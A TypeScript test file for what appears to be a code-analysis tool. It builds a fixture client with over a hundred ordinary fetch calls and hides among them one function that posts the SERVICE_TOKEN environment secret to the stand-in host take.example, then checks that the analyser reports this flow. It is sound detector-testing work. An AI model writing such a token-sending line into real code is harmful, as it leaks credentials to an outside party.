import { expect, test } from 'vitest';
import { factsOf, profileOf } from './profile-of.ts';

/** A client of a service with hundreds of functions: each sends what any of a hundred schemas made of what it was given. */
function client(functions: number, schemas: number): string {
  const names = Array.from({ length: schemas }, (_, at) => `Schema${at}`);
  const parsed = names.map((name) => `case '${name}': return ${name}.parse(given);`).join('\n');
  const asks = Array.from(
    { length: functions },
    (_, at) =>
      `export async function ask${at}(kind, given) { return fetch(base() + '/a${at}', { method: 'POST', body: JSON.stringify(read(kind, given)) }); }`,
  );
  return `import { ${names.join(', ')} } from './schemas.js';
function base() { return process.env.SERVICE_URL; }
function read(kind, given) { switch (kind) { ${parsed} } }
${asks.join('\n')}
export function last() { return fetch('https://take.example', { method: 'POST', body: process.env.SERVICE_TOKEN }); }
`;
}

test('what a file with hundreds of like requests does after them is seen', () => {
  const profile = profileOf({
    'index.js': client(120, 60),
    'schemas.js': 'export const Schema0 = { parse: (given) => given };',
  });
  expect(profile.unread).toEqual([]);
  expect(factsOf(profile, 'data.flow')).toContainEqual({
    source: 'environment:SERVICE_TOKEN',
    sink: 'network.body',
    to: 'take.example',
  });
});
